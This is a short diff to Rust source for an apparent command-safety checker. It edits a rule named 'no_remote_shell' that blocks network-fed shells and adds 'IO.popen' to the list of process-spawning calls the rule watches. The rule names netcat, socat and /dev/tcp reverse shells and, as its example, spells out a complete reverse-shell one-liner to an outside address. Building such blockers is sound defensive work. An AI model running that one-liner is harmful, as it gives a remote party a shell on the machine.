@@ -9,7 +9,7 @@ use crate::script::{Script, SimpleCommand, Span, Word};
 
 pub(super) const RULE: Rule = Rule {
     name: "no_remote_shell",
-    denies: "shells whose input comes from the network: bash -i >& /dev/tcp/…, nc -e, socat EXEC, miners",
+    denies: "shells whose input comes from the network: bash -i >& /dev/tcp/…, nc -e, socat EXEC; asks about miners and open connections",
     message: "this gives somebody elsewhere a shell on this machine",
     instead: "Use ssh, which asks who is there",
     example: "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
@@ -96,6 +96,7 @@ fn by_code(call: &ProgramCall<'_>) -> Decision {
             "child_process",
             "cmd.exe",
             "subprocess",
+            "IO.popen",
         ],
     );
     Decision::deny_if(connects && gives)
